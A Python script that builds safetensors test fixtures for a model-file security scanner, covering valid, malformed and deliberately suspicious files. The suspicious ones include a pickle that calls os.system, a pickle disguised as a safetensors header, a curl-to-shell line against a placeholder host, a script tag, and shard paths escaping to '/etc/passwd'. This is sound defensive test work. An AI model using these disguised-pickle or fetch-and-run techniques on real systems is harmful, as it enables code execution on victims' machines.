#!/usr/bin/python3
"""Regenerate the safetensors fixtures under test/fixtures/safetensors/.

Run from the repository root:

    /usr/bin/python3 scripts/make-safetensors-fixtures.py

Standard library only. The safetensors Python package is not packaged for Debian, so
benign files are written the way the crate's serialize() writes them (checked against
huggingface/safetensors safetensors/src/tensor.rs): tensors sorted by dtype size then
name, laid out back to back from offset 0; `__metadata__` first; compact JSON padded
with spaces to a multiple of 8 bytes; 8-byte little-endian header length. Malformed
files break exactly one rule each. Tensor bytes come from a fixed-seed generator, so
the output is byte-identical on every run.

What it writes:
  benign/     valid files: every dtype of the crate (sub-byte F4/F6 included), no tensors,
              whitespace around the JSON, non-ASCII names and escapes, LoRA-style metadata,
              and a sharded checkpoint (index json + two shards).
  malformed/  one broken rule per file (header length, JSON, UTF-8, duplicates, dtype,
              shape, offsets, coverage, metadata types), and a pickle whose first bytes
              pass for a safetensors header.
  odd/        valid files whose metadata looks like code, markup or links (LOW notes),
              a trailing pickle after the tensor data, and index jsons naming shards
              outside the folder or missing.

Safety: the pickle payloads only run `echo modelscan-fixture`; nothing here loads them.
"""

import json
import random
import struct
from pathlib import Path

ROOT = Path(__file__).resolve().parent.parent / 'test' / 'fixtures' / 'safetensors'
BITS = {
    'BOOL': 8, 'F4': 4, 'F6_E2M3': 6, 'F6_E3M2': 6, 'U8': 8, 'I8': 8, 'F8_E5M2': 8, 'F8_E4M3': 8,
    'F8_E8M0': 8, 'I16': 16, 'U16': 16, 'F16': 16, 'BF16': 16, 'I32': 32, 'U32': 32, 'F32': 32,
    'C64': 64, 'F64': 64, 'I64': 64, 'U64': 64,
}
RNG = random.Random(20240607)
PICKLE_PAYLOAD = b"cos\nsystem\n(S'echo modelscan-fixture'\ntR."


def nbytes(dtype, shape):
    n = 1
    for d in shape:
        n *= d
    return n * BITS[dtype] // 8


def data(n):
    return bytes(RNG.getrandbits(8) for _ in range(n))


def header_bytes(obj):
    text = json.dumps(obj, separators=(',', ':'), ensure_ascii=False).encode('utf-8')
    return text + b' ' * ((8 - len(text) % 8) % 8)


def serialize(tensors, metadata=None):
    """tensors: {name: (dtype, shape)} -> a valid file, laid out as the crate lays it out."""
    order = sorted(tensors.items(), key=lambda kv: (-BITS[kv[1][0]], kv[0]))
    head, body, off = {}, b'', 0
    if metadata is not None:
        head['__metadata__'] = metadata
    for name, (dtype, shape) in order:
        size = nbytes(dtype, shape)
        head[name] = {'dtype': dtype, 'shape': shape, 'data_offsets': [off, off + size]}
        body += data(size)
        off += size
    return raw(header_bytes(head), body)


def raw(header, body=b'', length=None):
    """A file from a literal header (bytes or str), its buffer, and optionally a lying length."""
    if isinstance(header, str):
        header = header.encode('utf-8')
    return struct.pack('<Q', len(header) if length is None else length) + header + body


def write(rel, content):
    path = ROOT / rel
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_bytes(content.encode() if isinstance(content, str) else content)


def benign():
    write('benign/tiny_model.safetensors', serialize({
        'embed.weight': ('F32', [16, 8]),
        'layer.0.weight': ('BF16', [8, 8]),
        'layer.0.bias': ('F16', [8]),
        'position_ids': ('I64', [1, 16]),
    }, {'format': 'pt'}))
    write('benign/all_dtypes.safetensors', serialize({
        'bool': ('BOOL', [5]), 'f4': ('F4', [2, 4]), 'f6_e2m3': ('F6_E2M3', [4]), 'f6_e3m2': ('F6_E3M2', [8]),
        'u8': ('U8', [3]), 'i8': ('I8', [3]), 'f8_e5m2': ('F8_E5M2', [4]), 'f8_e4m3': ('F8_E4M3', [4]),
        'f8_e8m0': ('F8_E8M0', [2]), 'i16': ('I16', [3]), 'u16': ('U16', [3]), 'f16': ('F16', [2, 2]),
        'bf16': ('BF16', [2, 2]), 'i32': ('I32', [2]), 'u32': ('U32', [2]), 'f32': ('F32', [2, 3]),
        'c64': ('C64', [2]), 'f64': ('F64', [2]), 'i64': ('I64', [2]), 'u64': ('U64', [2]),
        'scalar': ('F32', []), 'empty': ('F32', [0, 7]),
    }))
    write('benign/no_tensors.safetensors', serialize({}, {'format': 'pt'}))
    write('benign/whitespace.safetensors',
          raw(' \n\t{ "w" : { "dtype" : "U8", "shape" : [ 4 ], "data_offsets" : [ 0, 4 ] } }\r\n  ', data(4)))
    write('benign/unicode_names.safetensors', raw(
        '{"gewicht.\u00e4\u00f6\u00fc":{"dtype":"U8","shape":[2],"data_offsets":[0,2]},'
        '"esc\\u00e9\\ud83d\\ude00\\n\\"q\\"":{"dtype":"U8","shape":[2],"data_offsets":[2,4]},'
        '"\u65e5\u672c":{"dtype":"U8","shape":[1],"data_offsets":[4,5],"extra":{"ignored":[1,2.5,true,null]}}}',
        data(5)))
    write('benign/lora_metadata.safetensors', serialize({
        'lora_unet_down.lora_down.weight': ('F16', [4, 16]),
        'lora_unet_down.lora_up.weight': ('F16', [16, 4]),
        'lora_unet_down.alpha': ('F16', []),
    }, {
        'ss_network_module': 'networks.lora',
        'ss_tag_frequency': json.dumps({'img': {'1girl': 12, 'solo': 9, 'outdoors': 3}}),
        'ss_dataset_dirs': json.dumps({'10_subject': {'n_repeats': 10, 'img_count': 24}}),
        'ss_training_comment': 'trained on my own photos, see the model page',
        'modelspec.title': 'subject-lora',
        'modelspec.license': 'https://creativecommons.org/licenses/by/4.0/',
        'modelspec.author': 'someone',
        'format': 'pt',
    }))
    shard1 = serialize({'model.embed.weight': ('BF16', [32, 8]), 'model.layers.0.weight': ('BF16', [8, 8])}, {'format': 'pt'})
    shard2 = serialize({'lm_head.weight': ('BF16', [32, 8]), 'model.layers.1.weight': ('BF16', [8, 8])}, {'format': 'pt'})
    write('benign/sharded/model-00001-of-00002.safetensors', shard1)
    write('benign/sharded/model-00002-of-00002.safetensors', shard2)
    write('benign/sharded/model.safetensors.index.json', json.dumps({
        'metadata': {'total_size': len(shard1) + len(shard2)},
        'weight_map': {
            'lm_head.weight': 'model-00002-of-00002.safetensors',
            'model.embed.weight': 'model-00001-of-00002.safetensors',
            'model.layers.0.weight': 'model-00001-of-00002.safetensors',
            'model.layers.1.weight': 'model-00002-of-00002.safetensors',
        },
    }, indent=2) + '\n')


def tensor(name, dtype, shape, begin, end, extra=''):
    return '"%s":{"dtype":"%s","shape":%s,"data_offsets":[%d,%d]%s}' % (name, dtype, json.dumps(shape), begin, end, extra)


def malformed():
    w = tensor('w', 'F32', [4], 0, 16)
    write('malformed/length_past_end.safetensors', raw('{%s}' % w, data(16), length=4096))
    write('malformed/length_u64_max.safetensors', raw('{}      ', length=2**64 - 1))
    write('malformed/not_json.safetensors', raw('{"w":{"dtype":"F32",,"shape":[4]}}      ', data(16)))
    write('malformed/not_utf8.safetensors', raw(b'{"w\xff\xfe":{"dtype":"U8","shape":[1],"data_offsets":[0,1]}}', b'\0'))
    write('malformed/trailing_garbage.safetensors', raw('{%s}xyz' % w, data(16)))
    write('malformed/lone_surrogate.safetensors', raw('{"\\ud800":{"dtype":"U8","shape":[1],"data_offsets":[0,1]}}', b'\0'))
    write('malformed/control_char.safetensors', raw('{"a\tb":{"dtype":"U8","shape":[1],"data_offsets":[0,1]}}', b'\0'))
    write('malformed/too_deep.safetensors', raw('{"w":{"dtype":"U8","shape":[1],"data_offsets":[0,1],"x":%s%s}}' % ('[' * 200, ']' * 200), b'\0'))
    write('malformed/text_header.safetensors', raw(b'\xc2\x80\x04\xc2\x95 this is not json at all', data(8)))
    write('malformed/duplicate_tensor.safetensors', raw('{%s,%s}' % (tensor('w', 'F32', [4], 0, 16), tensor('w', 'F32', [4], 16, 32)), data(32)))
    write('malformed/duplicate_field.safetensors',
          raw('{"w":{"dtype":"U8","shape":[4],"data_offsets":[0,4],"data_offsets":[4,8]}}', data(8)))
    write('malformed/duplicate_metadata.safetensors',
          raw('{"__metadata__":{"format":"pt"},%s,"__metadata__":{"format":"np"}}' % w, data(16)))
    write('malformed/invalid_dtype.safetensors', raw('{%s}' % tensor('w', 'PICKLE', [4], 0, 16), data(16)))
    write('malformed/dtype_not_string.safetensors', raw('{"w":{"dtype":4,"shape":[4],"data_offsets":[0,4]}}', data(4)))
    write('malformed/missing_shape.safetensors', raw('{"w":{"dtype":"U8","data_offsets":[0,4]}}', data(4)))
    write('malformed/tensor_not_object.safetensors', raw('{"w":[0,4]}', data(4)))
    write('malformed/shape_float.safetensors', raw('{"w":{"dtype":"U8","shape":[2.0,2],"data_offsets":[0,4]}}', data(4)))
    write('malformed/shape_negative.safetensors', raw('{"w":{"dtype":"U8","shape":[-4],"data_offsets":[0,4]}}', data(4)))
    write('malformed/offsets_three.safetensors', raw('{"w":{"dtype":"U8","shape":[4],"data_offsets":[0,2,4]}}', data(4)))
    write('malformed/offset_over_u64.safetensors',
          raw('{"w":{"dtype":"U8","shape":[4],"data_offsets":[0,184467440737095516160]}}', data(4)))
    write('malformed/reversed.safetensors', raw('{%s}' % tensor('w', 'U8', [4], 4, 0), data(4)))
    write('malformed/out_of_range.safetensors', raw('{%s}' % tensor('w', 'F32', [1024, 1024], 0, 4 * 1024 * 1024), data(64)))
    write('malformed/truncated.safetensors', raw('{%s}' % tensor('w', 'F32', [64], 0, 256), data(200)))
    write('malformed/overlap.safetensors', raw('{%s,%s}' % (tensor('a', 'F32', [4], 0, 16), tensor('b', 'F32', [4], 8, 24)), data(24)))
    write('malformed/hole.safetensors', raw('{%s,%s}' % (tensor('a', 'F32', [2], 0, 8), tensor('b', 'F32', [2], 40, 48)), data(48)))
    write('malformed/size_mismatch.safetensors', raw('{%s}' % tensor('w', 'F32', [4, 4], 0, 32), data(32)))
    write('malformed/shape_overflow.safetensors', raw('{%s}' % tensor('w', 'F32', [2**32, 2**32, 2**32], 0, 64), data(64)))
    write('malformed/misaligned_f4.safetensors', raw('{%s}' % tensor('w', 'F4', [3], 0, 2), data(2)))
    write('malformed/metadata_not_string.safetensors',
          raw('{"__metadata__":{"format":"pt","config":{"nested":[1,2]}},%s}' % w, data(16)))
    write('malformed/metadata_not_map.safetensors', raw('{"__metadata__":["format","pt"],%s}' % w, data(16)))
    # LONG1 with 7 bytes: opcodes 8a 07, then 00 x6 and 7b: the first 8 bytes read as the length 1930
    # and byte 8 is '{'. The pickle then drops the long, skips a long string, and calls os.system.
    pad = b'a' * 1940
    polyglot = b'\x8a\x07' + b'\0' * 6 + b'{' + b'0' + b'X' + struct.pack('<I', len(pad)) + pad + b'0' + PICKLE_PAYLOAD
    assert struct.unpack('<Q', polyglot[:8])[0] <= len(polyglot) - 8 and polyglot[8:9] == b'{'
    write('malformed/pickle_polyglot.safetensors', polyglot)


def odd():
    t = {'w': ('F32', [4])}
    write('odd/metadata_code.safetensors', serialize(t, {
        'format': 'pt',
        'init': "import os; os.system('echo modelscan-fixture')",
        'hook': 'curl -s http://example.invalid/x.sh | sh',
        'card': "<script>alert('modelscan-fixture')</script>",
        'blob': '\\x6d\\x6f\\x64\\x65\\x6c',
        'callback_url': 'http://example.invalid/collect',
    }))
    write('odd/metadata_duplicate_key.safetensors',
          raw('{"__metadata__":{"format":"pt","format":"np"},%s}' % tensor('w', 'F32', [4], 0, 16), data(16)))
    body = serialize(t, {'format': 'pt'})
    write('odd/trailing_pickle.safetensors', body + b'\x80\x02' + PICKLE_PAYLOAD)
    write('odd/index_escaping/model.safetensors.index.json', json.dumps({
        'metadata': {'total_size': 64},
        'weight_map': {
            'a': 'model-00001-of-00002.safetensors',
            'b': '../../outside.safetensors',
            'c': '/etc/passwd',
            'd': 'https://example.invalid/shard.safetensors',
            'e': 'C:\\models\\shard.safetensors',
            'f': 'sub\\..\\..\\shard.safetensors',
            'g': 'model-00002-of-00002.safetensors',
        },
    }, indent=2) + '\n')
    write('odd/index_escaping/model-00001-of-00002.safetensors', serialize({'a': ('F32', [4])}, {'format': 'pt'}))
    write('odd/index_not_json/model.safetensors.index.json', '{"metadata": {}, "weight_map": {"a": "x.safetensors",}}\n')
    write('odd/config_with_metadata.json', json.dumps({'metadata': {'name': 'not an index'}, 'hidden_size': 8}) + '\n')


if __name__ == '__main__':
    benign()
    malformed()
    odd()
    print('wrote', sum(1 for p in ROOT.rglob('*') if p.is_file()), 'files under', ROOT)
